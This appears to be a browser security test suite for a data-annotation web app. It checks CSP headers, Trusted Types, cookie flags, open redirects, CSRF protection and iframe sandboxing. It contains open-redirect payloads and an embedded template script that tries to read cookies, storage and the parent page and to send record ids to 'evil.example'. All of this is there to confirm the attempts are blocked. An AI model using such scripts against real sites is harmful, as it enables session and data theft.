/** Security headers of our pages, what scripts can access in them, and what a template's frame can access. */
import type { Page } from 'playwright-core'
import { beforeEach, describe, expect, test } from 'vitest'
import { openDataset, storedResponse } from './annotation-page.ts'
import { type Seat, signIn, takeSeat } from './browser.ts'
import { takeWorld, world } from './desk.ts'
import { label, seed, texts } from './seed.ts'

takeWorld({ SERVICE_MEDIA_HOSTS: 'none' })
let seat: Seat
let page: Page
beforeEach(async () => {
  // These tests try blocked actions, which the browser reports.
  seat = await takeSeat(world.server.url, {
    allow: [/401|403/, /leaves the origin: https:\/\/evil/, /Content Security Policy|TrustedHTML|sandbox|origin "?'?null/i],
  })
  page = seat.page
  return async () => {
    await seat.context.close()
    expect(seat.troubles).toEqual([])
  }
})
const asAnnotator = () => signIn(page, world.annotator.username, world.annotator.password)

describe('the page', () => {
  test.each(['sign-in', 'user-settings', 'dataset/1/settings', 'nothing/here'])('the policy of %s', async path => {
    const answer = await page.goto(path)
    const policy = answer?.headers()['content-security-policy'] ?? ''
    expect(policy.split('; ').toSorted()).toEqual(
      [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data: blob:",
        "media-src 'self' data: blob:",
        "connect-src 'self'",
        "frame-src 'self'",
        "worker-src 'self'",
        "manifest-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'self'",
        'trusted-types vue dompurify postil postil-markdown',
        "require-trusted-types-for 'script'",
      ].toSorted(),
    )
  })

  test('no script can turn text into elements or code', async () => {
    await page.goto('sign-in')
    const outcome = await page.evaluate(() => {
      const attempt = (run: () => unknown) => {
        try {
          run()
          return 'done'
        } catch (error) {
          return error instanceof Error ? error.name : String(error)
        }
      }
      return [
        attempt(() => {
          document.createElement('div').innerHTML = '<b>'
        }),
        attempt(() => document.write('<b>')),
        attempt(() => new DOMParser().parseFromString('<b>', 'text/html')),
        attempt(() => Reflect.get(window, 'trustedTypes').createPolicy('mine', {})),
      ]
    })
    expect(outcome).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])
  })

  test('no script can read the session, and nothing secret lies in storage', async () => {
    await asAnnotator()
    expect(await page.evaluate(() => document.cookie)).toBe('')
    const [cookie] = await seat.context.cookies()
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' })
    const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))
    expect(kept).not.toContain(cookie?.value ?? 'no cookie')
    expect(kept).not.toContain(world.annotator.password)
  })

  test('a name and password in an address are ignored', async () => {
    const { username, password } = world.annotator
    for (const query of [
      `auth=${btoa(`${username}:${password}`)}`,
      `username=${username}&password=${password}`,
      btoa(`${username}:${password}`),
    ]) {
      await page.goto(`sign-in?${query}`)
      await page.getByTestId('sign-in-submit').waitFor()
      await expect.poll(() => page.getByTestId('sign-in-username').inputValue()).toBe('')
      expect(await seat.context.cookies()).toEqual([])
    }
  })

  test('after sign-in nobody is sent to another site', async () => {
    for (const target of ['//evil.example/', 'https://evil.example/', '/\\evil.example', 'javascript:alert(1)']) {
      await seat.context.clearCookies()
      await page.goto(`sign-in?to=${encodeURIComponent(target)}`)
      await page.getByTestId('sign-in-username').fill(world.annotator.username)
      await page.getByTestId('sign-in-password').fill(world.annotator.password)
      await page.getByTestId('sign-in-submit').click()
      await page.getByTestId('account').waitFor()
      expect(new URL(page.url()).origin).toBe(world.server.url)
    }
  })

  test('the cookie alone changes nothing', async () => {
    const datasetId = await seed(world, { name: 'csrf', questions: [label('mood', ['a', 'b'])], records: texts(1) })
    const { items } = await world.annotator.client.listMyRecords({ params: { dataset_id: datasetId } })
    await asAnnotator()
    const send = (headers: Record<string, string>) =>
      page.evaluate(
        async given => {
          const body = { values: { mood: { value: 'a' } }, status: 'submitted' }
          const init = {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...given.headers },
            body: JSON.stringify(body),
          }
          return (await fetch(`/api/v1/records/${given.id}/responses`, init)).status
        },
        { id: items[0]?.id ?? '', headers },
      )
    expect(await send({})).toBe(403)
    expect(await storedResponse(world, datasetId)).toBeNull()
    expect(await send({ 'x-postil-csrf': '1' })).toBe(201)
  })
})

test('what runs in a template reaches neither the page, nor the session, nor the network', async () => {
  const template = `<pre id="out"></pre><script>
    const tries = {
      parent: () => parent.document.title,
      top: () => (top.__ran = 1),
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      database: () => indexedDB.open('x'),
      frameElement: () => frameElement.id,
      popup: () => open('/').location,
      worker: () => navigator.serviceWorker.controller,
      leaveTop: () => (top.location = '/ran'),
    }
    const found = Object.entries(tries).filter(([, run]) => { try { return run() != null && run() !== '' } catch { return false } })
    const asks = ['/api/v1/me', '/api/v1/version', 'https://evil.example/'].map(url =>
      fetch(url, { credentials: 'include' }).then(() => url, () => 'refused'))
    const image = new Image()
    image.src = '/ran?' + record.id
    new Image().src = 'https://evil.example/?' + record.id
    Promise.all(asks).then(answers => { out.textContent = JSON.stringify([origin, found.map(([name]) => name), answers]) })
  </script>`
  const datasetId = await seed(world, {
    name: 'sandbox',
    fields: [{ name: 'view', title: 'View', required: true, settings: { type: 'custom', template, advanced_mode: true } }],
    questions: [label('mood', ['a', 'b'])],
    records: [{ fields: { view: { x: 1 } } }],
  })
  await asAnnotator()
  const asked: string[] = []
  const refused: string[] = []
  seat.context.on('request', request => /evil|\/ran\b/.test(request.url()) && asked.push(request.url()))
  seat.context.on('requestfailed', request => request.failure()?.errorText === 'csp' && refused.push(request.url()))
  await openDataset(page, datasetId)
  const frame = page.locator('iframe')
  await expect.poll(() => frame.getAttribute('sandbox')).toBe('allow-scripts')
  const out = page.frameLocator('iframe').locator('#out')
  await expect.poll(() => out.textContent()).not.toBe('')
  expect(JSON.parse((await out.textContent()) ?? '')).toEqual(['null', [], ['refused', 'refused', 'refused']])
  expect(await page.evaluate(() => '__ran' in window)).toBe(false)
  // The browser also reports requests that it blocks.
  expect(asked.filter(url => !refused.includes(url))).toEqual([])
  expect(seat.context.pages().length).toBe(1)
})
